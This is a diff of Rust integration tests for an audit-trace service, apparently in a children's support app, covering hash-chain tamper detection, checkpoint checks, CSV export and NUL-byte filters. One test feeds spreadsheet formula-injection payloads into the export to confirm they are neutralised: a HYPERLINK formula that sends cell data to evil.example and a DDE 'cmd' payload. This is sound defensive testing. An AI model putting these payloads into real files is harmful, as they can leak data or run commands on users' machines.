@@ -933,10 +933,12 @@ async fn a_removed_re_hashed_or_forged_entry_is_found() {
     assert_eq!(link.seq, 3);
     let canonical = link.canonical.replace("test-camhs", "test-someone-else");
     let hash = chain_hash(&link.prev_hash, &canonical);
+    // The column is edited to match, so entry 3 is consistent in itself.
     sql(
         &app,
         &format!(
-            "UPDATE access_trace SET entry = '{}', hash = '{hash}' WHERE seq = 3",
+            "UPDATE access_trace SET entry = '{}', hash = '{hash}',
+               actor_subject = 'test-someone-else' WHERE seq = 3",
             canonical.replace('\'', "''")
         ),
     )
@@ -972,6 +974,152 @@ async fn a_removed_re_hashed_or_forged_entry_is_found() {
     let report = integrity(&app).await;
     assert_eq!(report["ok"], false, "{report}");
     assert_eq!(report["firstBrokenSeq"], 5, "{report}");
+}
+
+/// An edit to one searchable column of entry 3 (the CAMHS read of Amira).
+async fn edit_column(column: &str) -> (TestApp, Value) {
+    let app = spawn_app().await;
+    three_reads(&app).await;
+    lift_triggers(&app).await;
+    let set = match column {
+        // Entry 4 is about Jayden: the read of Amira moves to him.
+        "child_id" => "child_id = (SELECT child_id FROM access_trace WHERE seq = 4)".to_owned(),
+        "actor_subject" => "actor_subject = 'test-someone-else'".to_owned(),
+        // Back to the time of entry 1, out of any search from then on.
+        "recorded_at" => {
+            "recorded_at = (SELECT recorded_at FROM access_trace WHERE seq = 1)".to_owned()
+        }
+        other => panic!("no edit for {other}"),
+    };
+    sql(
+        &app,
+        &format!("UPDATE access_trace SET {set} WHERE seq = 3"),
+    )
+    .await
+    .unwrap_or_else(|e| panic!("edit {column}: {e}"));
+    let report = integrity(&app).await;
+    (app, report)
+}
+
+fn assert_broken_at_3(report: &Value, column: &str) {
+    assert_eq!(report["ok"], false, "{column}: {report}");
+    assert_eq!(report["firstBrokenSeq"], 3, "{column}: {report}");
+    let problem = report["problem"].as_str().unwrap_or_default();
+    assert!(
+        problem.contains("searchable columns") && problem.contains(column),
+        "{column}: {report}"
+    );
+}
+
+#[tokio::test]
+async fn an_entry_moved_to_another_child_is_found() {
+    let (app, report) = edit_column("child_id").await;
+    // The edit hides the read from a search for Amira ...
+    let amira = trace(&app, json!({ "childId": AMIRA, "action": "READ" })).await;
+    assert!(amira.iter().all(|e| seq(e) != 3), "{amira:#?}");
+    // ... and the chain says so.
+    assert_broken_at_3(&report, "child_id");
+}
+
+#[tokio::test]
+async fn an_entry_given_another_actor_is_found() {
+    let (app, report) = edit_column("actor_subject").await;
+    let camhs = trace(&app, json!({ "actorSubject": "test-camhs" })).await;
+    assert!(camhs.is_empty(), "{camhs:#?}");
+    assert_broken_at_3(&report, "actor_subject");
+}
+
+#[tokio::test]
+async fn an_entry_moved_in_time_is_found() {
+    let (_app, report) = edit_column("recorded_at").await;
+    assert_broken_at_3(&report, "recorded_at");
+}
+
+#[tokio::test]
+async fn the_same_instant_written_another_way_is_not_an_edit() {
+    let app = spawn_app().await;
+    three_reads(&app).await;
+    lift_triggers(&app).await;
+    let link = app.store.trace_links(2, 1).await.expect("links").remove(0);
+    let at = DateTime::parse_from_rfc3339(
+        &TraceEntry::parse(&link.canonical)
+            .expect("entry")
+            .recorded_at,
+    )
+    .expect("time")
+    .with_timezone(&chrono::FixedOffset::east_opt(3600).expect("offset"));
+    // One hour east of UTC: another text on SQLite, the same instant.
+    sql(
+        &app,
+        &format!(
+            "UPDATE access_trace SET recorded_at = '{}' WHERE seq = 3",
+            at.format("%Y-%m-%d %H:%M:%S%.6f%:z")
+        ),
+    )
+    .await
+    .expect("rewrite recorded_at");
+    let report = integrity(&app).await;
+    assert_eq!(report["ok"], true, "{report}");
+}
+
+const INTEGRITY_AT: &str = "query($seq: Int, $hash: String) {
+  traceIntegrity(expectSeq: $seq, expectHash: $hash) {
+    ok entriesChecked headSeq headHash firstBrokenSeq problem } }";
+
+async fn integrity_at(app: &TestApp, seq: i64, hash: &str) -> Value {
+    let answer = ig(app, INTEGRITY_AT, json!({ "seq": seq, "hash": hash })).await;
+    assert!(answer.body["errors"].is_null(), "{answer:?}");
+    answer.body["data"]["traceIntegrity"].clone()
+}
+
+#[tokio::test]
+async fn a_truncated_tail_is_found_against_a_checkpoint() {
+    let app = spawn_app().await;
+    three_reads(&app).await;
+    let checkpoint = app.store.trace_links(3, 1).await.expect("links").remove(0);
+    assert_eq!(checkpoint.seq, 4);
+
+    // Positive control: the intact chain holds the checkpoint.
+    let report = integrity_at(&app, 4, &checkpoint.hash).await;
+    assert_eq!(report["ok"], true, "{report}");
+    assert_eq!(report["problem"], Value::Null, "{report}");
+
+    // Entries 4 onwards are removed; what is left links up cleanly.
+    lift_triggers(&app).await;
+    sql(&app, "DELETE FROM access_trace WHERE seq >= 4")
+        .await
+        .expect("truncate the tail");
+    let unchecked = integrity(&app).await;
+    assert_eq!(unchecked["ok"], true, "{unchecked}");
+    assert_eq!(unchecked["headSeq"], 3, "{unchecked}");
+    // (That check left entry 4 behind: a TRACE_SEARCH with another hash.)
+
+    // The head is now entry 4 again, but not the checkpoint's entry 4.
+    let report = integrity_at(&app, 4, &checkpoint.hash).await;
+    assert_eq!(report["ok"], false, "{report}");
+    assert_eq!(report["firstBrokenSeq"], 4, "{report}");
+    assert!(
+        report["problem"]
+            .as_str()
+            .is_some_and(|p| p.contains("checkpoint")),
+        "{report}"
+    );
+
+    // A checkpoint beyond the head: the end of the chain is missing.
+    let report = integrity_at(&app, 40, &checkpoint.hash).await;
+    assert_eq!(report["ok"], false, "{report}");
+    assert!(
+        report["problem"]
+            .as_str()
+            .is_some_and(|p| p.contains("checkpoint")),
+        "{report}"
+    );
+
+    // Half a checkpoint, or a hash that is not one, is refused.
+    let half = ig(&app, INTEGRITY_AT, json!({ "seq": 4 })).await;
+    assert_eq!(half.codes(), vec!["BAD_USER_INPUT"], "{half:?}");
+    let bad = ig(&app, INTEGRITY_AT, json!({ "seq": 4, "hash": "abc" })).await;
+    assert_eq!(bad.codes(), vec!["BAD_USER_INPUT"], "{bad:?}");
 }
 
 // ---------------------------------------------------------------------------
@@ -1520,6 +1668,119 @@ async fn ig_staff_export_the_trace_as_ndjson_and_csv() {
     // Three successful exports were traced; refused ones disclosed nothing.
     let exports = trace(&app, json!({ "action": "EXPORT" })).await;
     assert_eq!(exports.len(), 3, "{exports:#?}");
+}
+
+/// The cells of one CSV record (RFC 4180 quoting), for a record on one line.
+fn csv_cells(row: &str) -> Vec<String> {
+    let mut cells = vec![String::new()];
+    let (mut quoted, mut chars) = (false, row.chars().peekable());
+    while let Some(c) = chars.next() {
+        match (c, quoted) {
+            ('"', true) if chars.peek() == Some(&'"') => {
+                chars.next();
+                cells.last_mut().expect("cell").push('"');
+            }
+            ('"', _) => quoted = !quoted,
+            (',', false) => cells.push(String::new()),
+            (c, _) => cells.last_mut().expect("cell").push(c),
+        }
+    }
+    cells
+}
+
+#[tokio::test]
+async fn csv_cells_that_a_spreadsheet_would_run_are_neutralised() {
+    let app = spawn_app().await;
+    let subjects = [
+        "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1,1)",
+        // A leading tab or CR cannot reach the trace through a token (a
+        // control character in `sub` is refused at the door); the cell rule
+        // for them is tested in export.rs.
+        "plain-subject",
+    ];
+    for subject in subjects {
+        let mut claims = app.claims_for("senco");
+        claims["sub"] = json!(subject);
+        let token = app.hs256(&claims);
+        let read = app
+            .graphql_as(
+                Some(&token),
+                Some("DIRECT_SUPPORT"),
+                READ,
+                json!({ "id": AMIRA }),
+            )
+            .await;
+        assert!(
+            read.body["data"]["child"].is_object(),
+            "{subject}: {read:?}"
+        );
+    }
+    let (status, _, body) = export(
+        &app,
+        Some(&app.token_for("ig-auditor")),
+        &format!("?format=csv&childId={AMIRA}&action=READ"),
+    )
+    .await;
+    assert_eq!(status, 200, "{body}");
+    let cells: Vec<String> = body
+        .lines()
+        .skip(1)
+        .map(|row| csv_cells(row)[4].clone())
+        .collect();
+    assert_eq!(cells.len(), subjects.len(), "{body}");
+    for (cell, subject) in cells.iter().zip(subjects) {
+        if subject == "plain-subject" {
+            // Positive control: an ordinary value is left as it is.
+            assert_eq!(cell, subject);
+        } else {
+            assert_eq!(*cell, format!("'{subject}"), "{body}");
+        }
+    }
+    assert!(
+        body.contains("\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"click\"\")\""),
+        "{body}"
+    );
+}
+
+#[tokio::test]
+async fn a_nul_in_a_trace_filter_is_bad_input() {
+    let app = spawn_app().await;
+    three_reads(&app).await;
+    let ig_token = app.token_for("ig-auditor");
+    for (query, parameter) in [
+        ("?actorSubject=test-senco%00x", "actorSubject"),
+        ("?format=csv&actorSubject=%00", "actorSubject"),
+        ("?childId=%00", "childId"),
+        ("?from=2026-01-01T00:00:00Z%00", "from"),
+    ] {
+        let (status, _, body) = export(&app, Some(&ig_token), query).await;
+        assert_eq!(status, 400, "{query}: {body}");
+        let body: Value = serde_json::from_str(&body).expect("JSON error");
+        assert_eq!(
+            body["errors"][0]["extensions"]["code"], "BAD_USER_INPUT",
+            "{query}: {body}"
+        );
+        let message = body["errors"][0]["message"].as_str().unwrap_or_default();
+        assert!(message.contains(parameter), "{query}: {body}");
+    }
+    let answer = ig(
+        &app,
+        &trace_query(),
+        json!({ "filter": { "actorSubject": "test-senco\u{0}x" } }),
+    )
+    .await;
+    assert_eq!(answer.codes(), vec!["BAD_USER_INPUT"], "{answer:?}");
+    assert!(answer.message().contains("actorSubject"), "{answer:?}");
+    assert!(answer.body["data"].is_null(), "{answer:?}");
+    // Positive control: the same filter without the NUL works.
+    let senco = trace(&app, json!({ "actorSubject": "test-senco" })).await;
+    assert_eq!(senco.len(), 2, "{senco:#?}");
+    let (status, _, body) = export(&app, Some(&ig_token), "?actorSubject=test-senco").await;
+    assert_eq!(status, 200, "{body}");
+    assert_eq!(body.lines().count(), 2, "{body}");
 }
 
 // ---------------------------------------------------------------------------
